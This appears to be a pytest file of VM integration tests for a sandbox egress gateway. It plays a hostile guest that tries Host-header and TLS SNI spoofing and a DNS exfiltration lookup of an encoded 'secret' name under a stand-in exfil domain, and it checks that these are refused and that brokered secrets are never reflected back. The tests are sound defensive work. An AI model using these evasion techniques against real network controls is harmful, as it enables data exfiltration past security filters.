"""Issue 23 items 2, 4 and 5 with real VMs: a hostile guest under an allow list.

- A connection to an allowed name's address may not name another host: a `Host` of another
  site on a later keep-alive request, or as the first request, or another TLS SNI, is
  refused (the upstream on 127.0.0.2 serves every name, like a CDN).
- A CIDR entry in an allow list makes no other name resolvable (DNS exfiltration).
- A brokered secret's placeholder put into headers an upstream reflects never brings the
  real value back to the guest; the reflection is redacted and recorded.

Servers on the host's 127.0.0.2 (tests/netservers.py), names mapped by PAL_EGRESS_RESOLVE.
"""

from __future__ import annotations

import json
import secrets
import time

import httpx
import pytest

from tests.netservers import Upstream

pytestmark = pytest.mark.vm

DEADLINE_S = 120  # a hang guard for polls that end as soon as the event is there

# Requests for /host (the upstream answers the Host it got) on one keep-alive connection to
# api.test, then a fresh connection whose first request names another site.
KEEP_ALIVE = """
import socket, sys
PORT = int(sys.argv[1])
def fetch(s, f, host):
    try:
        s.sendall(("GET /host HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n" % (host, PORT)).encode())
        if not f.readline():
            return "closed"
        n = 0
        while (line := f.readline()) not in (b"\\r\\n", b""):
            if line.lower().startswith(b"content-length:"):
                n = int(line.split(b":")[1])
        return f.read(n).decode() or "closed"
    except OSError as e:
        return type(e).__name__
s = socket.create_connection(("api.test", PORT), timeout=30)
f = s.makefile("rb")
print(fetch(s, f, "api.test"))
print(fetch(s, f, "other.test"))
s = socket.create_connection(("api.test", PORT), timeout=30)
print(fetch(s, s.makefile("rb"), "other.test"))
"""

LOOKUPS = """
import socket
for name in ("api.test", "other.test", "c2VjcmV0.exfil.test"):
    try:
        socket.getaddrinfo(name, 443)
        print(name, "resolved")
    except OSError:
        print(name, "no")
"""


def sh(api: httpx.Client, vm: str, line: str) -> dict:
    r = api.post(f"/v1/runtime/vms/{vm}/exec", json={"command": "/bin/sh", "argv": ["-c", line]})
    assert r.status_code == 200, r.text
    return r.json()


def events(api: httpx.Client, vm: str, kind: str) -> list[dict]:
    return [e for e in api.get(f"/v1/runtime/vms/{vm}/events").json()["events"] if e["kind"] == kind]


def wait_for_event(api: httpx.Client, vm: str, kind: str, says: str) -> dict:
    deadline = time.time() + DEADLINE_S
    while time.time() < deadline:
        for e in events(api, vm, kind):
            if says in json.dumps(e):
                return e
        time.sleep(0.5)
    raise AssertionError(f"no {kind} event saying {says!r}: {events(api, vm, kind)}")


def test_an_allowed_names_connection_may_not_name_another_site(api: httpx.Client, upstream: Upstream) -> None:
    up = upstream
    allow = [f"api.test:{up.http_port}", f"tls.test:{up.tls_port}", "203.0.113.0/24"]
    r = api.post("/v1/runtime/schedule", json={"egress": {"allow": allow}})
    assert r.status_code == 200, r.text
    vm = r.json()["vmId"]
    try:
        api.put(f"/v1/runtime/vms/{vm}/files/content", params={"path": "ka.py"}, content=KEEP_ALIVE)
        api.put(f"/v1/runtime/vms/{vm}/files/content", params={"path": "dns.py"}, content=LOOKUPS)
        api.put(f"/v1/runtime/vms/{vm}/files/content", params={"path": "ca.pem"}, content=up.ca_pem)
        p = up.tls_port
        tls = f"https://tls.test:{p}/host"
        out = sh(
            api,
            vm,
            f"python3 ka.py {up.http_port}; python3 dns.py; "
            f"curl -sS --max-time 30 --cacert ca.pem {tls}; echo; "
            # tls.test's address, another name in the ClientHello (the upstream's certificate
            # names both: only the gateway can tell)
            f"curl -sS --max-time 30 --cacert ca.pem --connect-to other.test:{p}:tls.test:{p} "
            f"https://other.test:{p}/host; echo rc=$?",
        )
        lines = out["stdout"].splitlines()
        # Plain HTTP: the allowed Host is served; another Host on the same keep-alive
        # connection, or first on a new one, never reaches the upstream.
        assert lines[0] == f"api.test:{up.http_port}", out
        assert lines[1] in ("closed", "ConnectionResetError"), out
        assert lines[2] in ("closed", "ConnectionResetError"), out
        # DNS: the CIDR entry does not make other names resolvable.
        assert lines[3:6] == ["api.test resolved", "other.test no", "c2VjcmV0.exfil.test no"], out
        # TLS: the allowed SNI goes through, another one to the same address does not.
        assert lines[6] == f"tls.test:{up.tls_port}", out
        assert lines[7].startswith("rc=") and lines[7] != "rc=0", out
        wait_for_event(api, vm, "egress_denied", "HTTP Host other.test does not match")
        wait_for_event(api, vm, "egress_denied", "TLS SNI other.test does not match")
        wait_for_event(api, vm, "egress_denied", "c2vjcmv0.exfil.test")  # lower-cased
    finally:
        api.delete(f"/v1/runtime/vms/{vm}")


def test_a_reflected_placeholder_never_brings_the_secret_back(api: httpx.Client, upstream: Upstream) -> None:
    real = "sk-reflect-" + secrets.token_hex(16)
    port = upstream.tls_port
    spec = {
        "egress": {"allow": [f"api.test:{port}"]},
        "secrets": {
            "KEY": {
                "value": real,
                "brokered": {"hosts": ["api.test"], "header": "Authorization", "format": "Bearer {value}"},
            }
        },
    }
    r = api.post("/v1/runtime/schedule", json=spec)
    assert r.status_code == 200, r.text
    vm = r.json()["vmId"]
    try:
        n0 = len(upstream.received)
        # The placeholder in every header an upstream might reflect; the whole answer
        # (headers and body) is what the guest can read.
        out = sh(
            api,
            vm,
            f'curl -sS -i --max-time 60 -H "Origin: https://$KEY.example" -H "X-Request-Id: $KEY" '
            f'-H "Referer: https://x.test/?k=$KEY" -H "X-Org: $KEY" -H "Authorization: Bearer $KEY" '
            f"https://api.test:{port}/reflect; echo; echo $KEY",
        )
        assert out["exitCode"] == 0, out
        placeholder = out["stdout"].splitlines()[-1]
        assert placeholder.startswith("pal-brokered-key-"), out
        got = upstream.received[n0:]
        assert len(got) == 1
        # Injected only into the configured header; the others carried the placeholder.
        assert got[0]["Authorization"] == f"Bearer {real}"
        assert got[0]["Origin"] == f"https://{placeholder}.example"
        assert got[0]["X-Request-Id"] == got[0]["X-Org"] == placeholder
        # The upstream reflected Authorization: the guest reads the placeholder there.
        answer = out["stdout"]
        assert real not in answer
        assert f"X-Echo-Authorization: Bearer {placeholder}" in answer, answer
        assert f'"Authorization": "Bearer {placeholder}"' in answer, answer
        e = wait_for_event(api, vm, "secret_reflected", "KEY reflected")
        assert real not in json.dumps(e)
    finally:
        api.delete(f"/v1/runtime/vms/{vm}")
